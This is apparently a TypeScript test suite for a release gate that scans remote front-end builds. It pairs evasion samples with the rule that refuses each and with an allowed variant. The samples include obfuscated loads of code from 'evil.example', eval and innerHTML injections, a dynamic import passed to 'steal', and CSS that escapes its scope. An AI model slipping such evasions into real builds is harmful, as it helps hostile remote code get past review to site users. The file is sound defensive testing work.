import assert from 'node:assert/strict';
import { test } from 'node:test';
import { compressBrotli, compressGzip } from '@ank/build/compress';
import { integrityOf } from '@ank/build/integrity';
import type { RemoteDescription } from '@ank/protocol/registry';
import { makeRemoteBuild, makeShellBuild, type RemoteBuild } from '@ank/testkit/builds';
import { makeTestSite } from '@ank/testkit/site';
import { withNewestVersion } from '../built/loadedBuild';
import { publishBuilds } from '../publish/publishBuilds';
import { EMPTY_REGISTRY } from '../publish/revisions';
import { readSentBuild } from '../registry/readSentBuild';
import { findReleaseFaults } from './gate';
import { GateRefusal } from './gateRefusal';

const { version, kernel, contract } = makeShellBuild().shell;
const live = { ...EMPTY_REGISTRY, shell: { version, kernel, contract } };

const faultsIn = (build: RemoteBuild) => {
  const { name, description, candidate } = build.remote;
  return findReleaseFaults(build, { live, next: withNewestVersion(live, name, description, candidate) });
};

const code = (code: string) => makeRemoteBuild('wallet', '1.0.0', { code });
const file = (name: string, bytes: Buffer | string, screen?: string): RemoteBuild => {
  const build = makeRemoteBuild('wallet', '1.0.0', screen === undefined ? {} : { code: screen });
  build.files.push({ path: `r/wallet/1.0.0/${name}`, bytes: Buffer.from(bytes) });
  return build;
};
const styles = (css: string): RemoteBuild => {
  const build = file('Panel.css', css);
  const src = '/r/wallet/1.0.0/Panel.css';
  build.remote.candidate.styles = { Screen: [{ src, integrity: integrityOf(css) }] };
  build.files = build.files.filter(({ path }) => !path.endsWith('Screen.css'));
  return build;
};
const screen = makeRemoteBuild('wallet', '1.0.0').files.find(({ path }) => path.endsWith('Screen.js'))?.bytes;
const routes = (...paths: string[]): RemoteBuild =>
  makeRemoteBuild('wallet', '1.0.0', {
    description: {
      routes: paths.map((path) => ({
        ...{ path, layout: 'main', login: true, betting: false, screen: 'Screen', start: true },
      })) as RemoteDescription['routes'],
    },
  });
const many = (count: number) => routes(...Array.from({ length: count }, (_, at) => `/wallet/page-${at}`));
const listing = (name: string): RemoteBuild => {
  const build = file(name, 'late();');
  const late = { src: `/r/wallet/1.0.0/${name}`, integrity: integrityOf('late();') };
  build.remote.candidate.files.Screen?.push(late);
  return build;
};

/** What evades a reading of the surface, its rule, and the nearest that a remote may do. */
const evasions: Record<string, [RemoteBuild, string, RemoteBuild][]> = {
  styles: [
    [styles('html:not(.x){top:0}'), 'page-wide style', styles('.x:not(html){top:0}')],
    [styles(':is(body,.x){top:0}'), 'page-wide style', styles(':is(.y,.x) p{top:0}')],
    [styles(':where(.x,:not(.x)){top:0}'), 'page-wide style', styles(':where(.x){top:0}')],
    [styles('*{top:0}'), 'page-wide style', styles('.x *{top:0}')],
    [styles(':nth-child(1 of html){top:0}'), 'page-wide style', styles(':nth-child(1 of .x){top:0}')],
    [styles('html:has(p){top:0}'), 'page-wide style', styles('html:has(.x){top:0}')],
    [styles('.x{html:not(&){top:0}}'), 'page-wide style', styles('.x{html &{top:0}}')],
    [styles('.x{:is(html,&){top:0}}'), 'page-wide style', styles('.x{:is(b,i){top:0}}')],
    [styles('.x{@media print{html:not(&){top:0}}}'), 'page-wide style', styles('.x{@media print{p{top:0}}}')],
    [styles('html{& p{top:0}}'), 'page-wide style', styles('.x{& p{top:0}}')],
    [styles('@layer a{@supports (top:0){html{top:0}}}'), 'page-wide style', styles('@layer a{.x{top:0}}')],
    [styles('@scope(html){img{top:0}}'), 'page-wide style', styles('@scope(.x){img{top:0}}')],
    // Browsers take the mark of UTF-8 at a file's head away.
    [styles('\uFEFFhtml{top:0}'), 'page-wide style', styles('\uFEFF.x{top:0}')],
    [styles('@import "other.css";.x{top:0}'), 'imported style', styles('.x{top:0}')],
    [
      styles('@font-face{font-family:"Noto Sans";src:url(a.woff2)}'),
      'font name',
      styles('@font-face{font-family:"Wallet Sans";src:url(a.woff2)}.x{font-family:"Noto Sans"}'),
    ],
    [
      styles('.x{content:"\n}html{top:0}.y{content:"}'),
      'style sheet',
      styles('.x{content:"}html{top:0}.y{"}'),
    ],
  ],
  deep: [
    ['@media print{', '.x{'],
    ['.x{content:"}";', '.x{content:"{";top:0}'],
    ['u\\72l(a"){.x{', '.x{background:url(a.png)}'],
    [':is(', '.x{top:0}'],
    ['.x{);', '.x{top:0;}'],
  ].map(([deep = '', flat = '']) => [styles(deep.repeat(5_000)), 'style sheet', styles(flat.repeat(100))]),
  addresses: [
    [code('load("//evil.example/x")'), 'absolute host', code('load("/x//evil.example")')],
    [code('load("\\\\/evil.example/x")'), 'absolute host', code('match("\\\\/*$")')],
    [code('load("wss:evil.example/x")'), 'absolute host', code('say("https is needed")')],
    [code('load("https://react.dev@evil.example")'), 'absolute host', code('say("https://react.dev/x")')],
    [code("load('ht'+'tps://ev'+'il.example')"), 'absolute host', code("load('https://wa'+'.me/1')")],
    [
      code(`const a="https:";load(\`\${a}//evil.example\`)`),
      'absolute host',
      code(`load(\`\${a}//\${b}/x\`)`),
    ],
    [code('load("//evil".concat(".example"))'), 'absolute host', code('load("/evil".concat(".example"))')],
    [
      code('load(["https:","","evil.example"].join("/"))'),
      'absolute host',
      code('load(["a","b"].join("/"))'),
    ],
    [
      code('const at={host:"evil."};let b;b="example";load("//"+at.host+b)'),
      'absolute host',
      code('load("//"+location.host)'),
    ],
    [code('put("<img src=\\"//evil.example/x\\">")'), 'absolute host', code('say("see //notes.example")')],
    [styles('.x{background:url(//evil.example/x)}'), 'absolute host', styles('.x{background:url(x.png)}')],
    [
      styles('.x{background:url("https:\\2f/evil.example")}'),
      'absolute host',
      styles('/* https://a.example */'),
    ],
  ],
  slices: [
    [
      code('const n="session";createSlice({name:n})'),
      'slice name',
      code(`const n="wallet";createSlice({name:\`\${n}Pay\`})`),
    ],
    [
      code('function f(n){var t="session";(0,r.createSlice)({name:t})}f("walletPay")'),
      'slice name',
      code('var t="session";function f(){var t="walletPay";(0,r.createSlice)({name:t})}'),
    ],
    [
      code('const names={a:"session"};createSlice({name:names.a})'),
      'slice name',
      code('const names={a:"walletPay"};createSlice({name:names.a})'),
    ],
    [
      code('const {createSlice:c}=kit;c({name:"session"})'),
      'slice name',
      code('const {createAction:c}=kit;c({name:"session"})'),
    ],
    [
      code('e({name:"session",initialState:{},reducers:{}})'),
      'slice name',
      code('e({name:"session",children:[]})'),
    ],
    [
      code('createSlice({name:"walletPay",reducerPath:"session"})'),
      'slice name',
      code('createSlice({name:"walletPay",reducerPath:"walletPays"})'),
    ],
    [code('createSlice({name:read()})'), 'slice name', code('createSlice({name:"wallet"+read()})')],
    [
      code('let n="walletPay";n="session";createSlice({name:n})'),
      'slice name',
      code('let n;n="walletPay";createSlice({name:n})'),
    ],
  ],
  'texts as code': [
    [code('eval("1")'), 'text as code', code('const eval2=text=>text;eval2("1")')],
    [code('(0,eval)("1")'), 'text as code', code('model.eval("1")')],
    [code('window["ev"+"al"]("1")'), 'text as code', code('f(function(eval){eval("1")})')],
    [code('const f=Function;new f("a","return a")'), 'text as code', code('Function("return this")()')],
    [
      code('Function("return "+e.publicPath)()'),
      'text as code',
      code('eval("require");Function("return "+e.getPublicPath)()();Function(e.getPublicPath)()'),
    ],
    [code('box.innerHTML=words'), 'text as markup', code('box.textContent=box.innerHTML')],
    [code('box["inner"+"HTML"]+=words'), 'text as markup', code('const innerHTML=words;innerHTML.length')],
    [code('box.insertAdjacentHTML("beforeend",words)'), 'text as markup', code('box.append(words)')],
    [code('window.document.write(words)'), 'text as markup', code('stream.write(words)')],
    [
      code('jsx("p",{dangerouslySetInnerHTML:{__html:words}})'),
      'text as markup',
      code('jsx("p",{children:words})'),
    ],
    [
      code('frame.srcdoc=words'),
      'text as markup',
      code('const policy=trustedTypes.createPolicy("dompurify",{});body.innerHTML=policy.createHTML(words)'),
    ],
    [code('document.createElement("style")'), 'style by script', code('document.createElement("p")')],
    [code('const tag="STYLE";d.createElement(tag)'), 'style by script', code('styles.createElement(kind)')],
    [code('(0,r.jsx)("style",{children:css})'), 'style by script', code('(0,r.jsx)("p",{style:{top:0}})')],
    [code('box.setAttribute("style",css)'), 'style by script', code('box.setAttribute("data-style",css)')],
    [code('(()=>{}).constructor("go()")()'), 'text as code', code('new error.constructor("go()")')],
    [code('setTimeout("go()",1)'), 'text as code', code('setTimeout(go,1)')],
    [code('self.setInterval("go("+n+")",1)'), 'text as code', code('later.setInterval("x",1)')],
    [
      code(`new Function("callbacks",\`import("\${url}").then(steal)\`)`),
      'text as code',
      code(
        `const c=".then(callbacks[0]).catch(callbacks[1])";new Function("callbacks",\`import("\${url}")\${c}\`)`,
      ),
    ],
  ],
  files: [
    [
      file('Screen.js.br', compressBrotli(Buffer.from('evil();'))),
      'packed copy',
      file('Screen.js.br', compressBrotli(screen ?? Buffer.of())),
    ],
    [
      file('Screen.js.gz', compressGzip(Buffer.from('evil();'))),
      'packed copy',
      file('Screen.js.gz', compressGzip(screen ?? Buffer.of())),
    ],
    [file('none.txt.gz', compressGzip(Buffer.from('alone'))), 'packed copy', file('none.txt', 'alone')],
    ...['login.html', 'login.HTM', 'a.mjs', 'a.wasm', 'a.svg', 'a.xml'].map(
      (name): [RemoteBuild, string, RemoteBuild] => [
        file(name, '<p>'),
        'unlisted file',
        file('a.txt', '<p>'),
      ],
    ),
    [file('a.svg', '<svg/>', 'load("b.svg")'), 'unlisted file', file('a.svg', '<svg/>', 'load("a.svg")')],
    [listing('late.JS'), 'script', listing('late.js')],
    [file('a.bin', Buffer.alloc(100_000_000)), 'size of all files', file('a.bin', Buffer.alloc(1_000_000))],
  ],
  paths: [
    [routes('/:page'), 'path of all', routes('/wallet/:page')],
    [routes('/wallet', '/:page/x'), 'path of all', routes('/wallet', '/wallet/:page/x')],
    [many(10_000), 'record size', many(100)],
    [many(300), 'record size', many(30)],
  ],
};

for (const [kind, rows] of Object.entries(evasions))
  test(`${kind}: each evasion is refused by its rule, with a way out, and the nearest that is allowed passes`, () => {
    for (const [at, [evasion, rule, allowed]] of rows.entries()) {
      const faults = faultsIn(evasion);
      assert.deepEqual([...new Set(faults.map((fault) => fault.rule))], [rule], `${kind}, row ${at}`);
      for (const { says, wayOut } of faults) assert.ok(says.length > 20 && wayOut.length > 20);
      assert.deepEqual(faultsIn(allowed), [], `${kind}, row ${at}: the allowed one`);
    }
  });

test('the service refuses a record and files that are too large before it reads what they say', () => {
  const parcel = { name: 'wallet', version: '1.0.0', says: { routes: 'x'.repeat(300_000) }, files: [] };
  assert.throws(
    () => readSentBuild(parcel, []),
    (error) => error instanceof GateRefusal && /record size/.test(error.message),
  );
});

test('paths that only the code names are part of the record', async () => {
  const site = makeTestSite();
  const links = Array.from({ length: 15_000 }, (_, at) => `"/wallet/${at.toString(36)}"`);
  await publishBuilds(site.target, [makeShellBuild()]);
  await assert.rejects(
    publishBuilds(site.target, [code(`go([${links}])`)]),
    /record size: each revision would carry/,
  );
  site.remove();
});
